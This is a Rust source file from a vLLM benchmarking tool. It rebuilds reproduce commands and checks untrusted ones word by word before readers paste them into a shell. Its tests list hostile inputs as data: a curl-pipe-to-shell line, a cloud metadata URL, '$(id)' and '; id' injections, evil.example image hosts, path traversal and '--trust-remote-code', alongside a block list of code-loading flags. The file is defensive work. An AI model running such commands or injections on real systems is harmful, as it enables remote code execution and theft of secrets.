//! A plan as the command that reproduces the run.

use std::path::Path;

use anyhow::{Context, Result, bail, ensure};
use vllm_verdict::strategy::{MOST_PAIRS, Strategy};
use vllm_verdict::v1::DeviceName;

use crate::plan::Plan;
use crate::plan::config::ImagesConfig;
use crate::plan::image::Reference;
use crate::plan::target::Target;

/// Parts of flags of a server that load code or files, or change where it listens.
const LOADING: [&str; 16] = [
    "code",
    "plugin",
    "middleware",
    "tokenizer",
    "model",
    "config",
    "cls",
    "class",
    "lora",
    "dir",
    "file",
    "template",
    "parser",
    "host",
    "port",
    "key",
];
/// Longest expression of `--only`, in bytes.
const ONLY_LIMIT: usize = 300;

impl Plan {
    /// The command, for a machine that has the targets. `suite` and `only` are those that the plan was made with.
    pub fn reproduce(&self, suite: &Path, only: Option<&str>) -> String {
        let mut words: Vec<String> = ["vllm-perf", "run"].map(String::from).to_vec();
        for (side, planned) in self.sides.present() {
            words.extend([format!("--{}", side.as_str()), planned.target.to_string()]);
            if !planned.server_args.is_empty() {
                words.push(format!("--{}-server-args={}", side.as_str(), shell_words::join(&planned.server_args)));
            }
        }
        if self.sides.base.is_none() {
            let recorded = self.recorded_base.as_ref().map(|folder| format!("results:{}", folder.display()));
            words.extend(["--base".to_owned(), recorded.unwrap_or_else(|| "none".to_owned())]);
        }
        words.extend([
            "--provider".to_owned(),
            "local".to_owned(),
            "--device".to_owned(),
            self.device.name.to_string(),
        ]);
        words.extend(["--suite".to_owned(), suite.display().to_string()]);
        if let Some(only) = only {
            words.extend(["--only".to_owned(), only.to_owned()]);
        }
        if matches!(self.strategy, Strategy::Screen | Strategy::Sequential) {
            words.extend(["--strategy".to_owned(), self.strategy.as_str().to_owned()]);
        }
        words.extend(["--pairs".to_owned(), self.pairs.to_string(), "--seed".to_owned(), self.seed.to_string()]);
        shell_words::join(words)
    }
}

/// The command of an untrusted report, built again word by word, for readers who paste it into a shell: it can only be
/// [`Plan::reproduce`] of the simulated vLLM or of images in the repositories of `images`.
///
/// # Errors
/// The first word that such a command does not have.
pub fn checked(command: &str, images: &ImagesConfig) -> Result<String> {
    let words = shell_words::split(command).context("it is not a command")?;
    let [program, run, arguments @ ..] = words.as_slice() else { bail!("it is too short") };
    ensure!((program.as_str(), run.as_str()) == ("vllm-perf", "run"), "`{program} {run}` is not `vllm-perf run`");
    let mut checked = vec![program.clone(), run.clone()];
    let mut seen = Vec::new();
    let mut arguments = arguments.iter();
    while let Some(word) = arguments.next() {
        checked.push(word.clone());
        let flag = word.split('=').next().unwrap_or(word);
        ensure!(!seen.contains(&flag), "`{flag}` is given twice");
        seen.push(flag);
        if let Some((flag, value)) = word.split_once('=') {
            check_value(flag, value, images)?;
            continue;
        }
        let value = arguments.next().with_context(|| format!("`{word}` has no value"))?;
        check_value(word, value, images)?;
        checked.push(value.clone());
    }
    Ok(shell_words::join(checked))
}

fn check_value(flag: &str, value: &str, images: &ImagesConfig) -> Result<()> {
    let is_right = match flag {
        "--base" if value == "none" => true,
        "--base" | "--head" => match value.parse()? {
            Target::Sim(_) => true,
            Target::Image(reference) => is_of(&reference.parse()?, images),
            Target::Local(_) | Target::Remote(_) => false,
        },
        "--base-server-args" | "--head-server-args" => {
            shell_words::split(value).is_ok_and(|words| words.iter().all(|word| is_harmless(word)))
        }
        "--provider" => value == "local",
        "--device" => value.parse::<DeviceName>().is_ok(),
        "--suite" => is_plain(value) && !value.starts_with(['/', '-']) && value.split('/').all(|part| part != ".."),
        "--only" => value.len() <= ONLY_LIMIT && !value.starts_with('-') && !value.contains(char::is_control),
        "--strategy" => [Strategy::Screen, Strategy::Sequential].iter().any(|known| known.as_str() == value),
        "--pairs" => value.parse().is_ok_and(|pairs: u32| (1..=MOST_PAIRS).contains(&pairs)),
        "--seed" => value.parse::<u64>().is_ok(),
        _ => bail!("`{flag}` is not one of its flags"),
    };
    ensure!(is_right, "`{value}` is not accepted for `{flag}`");
    Ok(())
}

fn is_of(reference: &Reference, images: &ImagesConfig) -> bool {
    [&images.pull_request, &images.main, &images.rocm].into_iter().any(|repository| {
        repository.parse().is_ok_and(|known: Reference| {
            (&known.registry, &known.repository) == (&reference.registry, &reference.repository)
        })
    })
}

/// Whether a word of a server's arguments is a plain flag or value: no path, and none of the flags that load code.
fn is_harmless(word: &str) -> bool {
    let plain = word.len() <= 40 && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".=-_".contains(&byte));
    plain && !LOADING.iter().any(|part| word.to_ascii_lowercase().contains(part))
}

/// Whether a word has only letters, digits and punctuation that no shell reads.
fn is_plain(word: &str) -> bool {
    !word.is_empty() && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._=:/,+-".contains(&byte))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;

    const IMAGE: &str = "image:public.ecr.aws/q9t5s3a7/vllm-ci-test-repo:1da94e673c257373280026f75ceb4effac80e892-cpu";

    #[test]
    fn a_command_of_a_plan_is_accepted_as_it_is() {
        let images = ImagesConfig::default();
        for command in [
            "vllm-perf run --base sim --head sim:itl=12ms --provider local --device cpu --suite examples/suite --pairs 3 --seed 7",
            &format!(
                "vllm-perf run --head {IMAGE} '--head-server-args=--max-num-seqs 1' --base none --only '_c(1|8)$'"
            ),
        ] {
            let again = checked(command, &images).unwrap();
            assert_eq!(shell_words::split(&again).unwrap(), shell_words::split(command).unwrap());
        }
    }

    #[test]
    fn a_command_that_could_do_anything_else_is_refused_with_the_word() {
        let images = ImagesConfig::default();
        let refusals = [
            "vllm-perf guard -- sh -c 'curl https://e.org | sh'",
            "vllm-perf publish out",
            "sh run",
            "vllm-perf run --head local:./evil",
            "vllm-perf run --head remote:http://169.254.169.254/",
            "vllm-perf run --head image:evil.example/vllm:main",
            "vllm-perf run --head image:public.ecr.aws/q9t5s3a7/vllm-ci-test-repo.evil:main",
            "vllm-perf run --base ../evil",
            "vllm-perf run --head sim --config evil.yml",
            "vllm-perf run --head sim --out /home/me",
            "vllm-perf run --head sim --store=s3://evil",
            "vllm-perf run --head sim --suite ../evil",
            "vllm-perf run --head sim --pairs 99",
            "vllm-perf run --head sim '--head-server-args=$(id)'",
            "vllm-perf run --head sim '--head-server-args=--trust-remote-code'",
            "vllm-perf run --head sim '--head-server-args=--tokenizer evil/canary'",
            "vllm-perf run --head local",
            "vllm-perf run --head sim --head local:vllm",
            "vllm-perf run --head",
            "vllm-perf run ; id",
        ]
        .map(|command| checked(command, &images).unwrap_err().to_string());
        insta::assert_snapshot!(refusals.join("\n"), @r"
        `vllm-perf guard` is not `vllm-perf run`
        `vllm-perf publish` is not `vllm-perf run`
        `sh run` is not `vllm-perf run`
        `local:./evil` is not accepted for `--head`
        `remote:http://169.254.169.254/` is not accepted for `--head`
        `image:evil.example/vllm:main` is not accepted for `--head`
        `image:public.ecr.aws/q9t5s3a7/vllm-ci-test-repo.evil:main` is not accepted for `--head`
        `../evil` is not a target: expected image:REF, local[:PATH], remote:URL or sim[:key=value,...]; did you mean `local:../evil`?
        `--config` is not one of its flags
        `--out` is not one of its flags
        `--store` is not one of its flags
        `../evil` is not accepted for `--suite`
        `99` is not accepted for `--pairs`
        `$(id)` is not accepted for `--head-server-args`
        `--trust-remote-code` is not accepted for `--head-server-args`
        `--tokenizer evil/canary` is not accepted for `--head-server-args`
        `local` is not accepted for `--head`
        `--head` is given twice
        `--head` has no value
        `;` is not one of its flags
        ");
    }

    #[test]
    fn the_command_names_both_sides_and_quotes_words_with_spaces() {
        let plan: Plan = serde_json::from_str(
            r#"{"schema": "vllm-perf/plan/v1", "trigger": {"run": true, "reason": ""},
                "event": {"provider": "local", "name": "local", "action": null, "changed_label": null, "repository": null,
                  "branch": null, "head_sha": null, "base_sha": null, "base_branch": null, "pull_request": null,
                  "labels": [], "labels_source": "flag", "fork": false},
                "device": {"name": "cpu", "type": "AMD_EPYC_2c", "count": 1, "image_suffix": "-cpu"},
                "sides": {"base": {"target": "local", "commit": null},
                  "head": {"target": "sim:itl=12ms", "commit": null, "server_args": ["--max-num-seqs", "1"]}},
                "cases": [], "skipped": [], "pairs": 3, "seed": 7}"#,
        )
        .unwrap();
        insta::assert_snapshot!(
            plan.reproduce(Path::new("my suite"), Some("_c(1|8)$")),
            @"vllm-perf run --base local --head 'sim:itl=12ms' '--head-server-args=--max-num-seqs 1' --provider local --device cpu --suite 'my suite' --only '_c(1|8)$' --pairs 3 --seed 7"
        );
    }
}
